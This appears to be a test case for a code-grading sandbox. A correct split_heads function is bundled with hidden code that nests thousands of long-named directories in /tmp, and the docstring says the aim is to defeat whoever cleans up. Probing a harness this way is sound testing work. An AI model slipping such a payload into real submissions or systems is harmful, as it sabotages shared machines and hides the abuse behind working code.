"""Makes folders in folders until the path is too long for whoever cleans up."""

KIND = "resources"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
import os

os.chdir("/tmp")
try:
    for _ in range(20_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass


def split_heads(x, num_heads):
    B, T, D = x.shape
    return x.reshape(B, T, num_heads, D // num_heads).transpose(1, 2)
"""
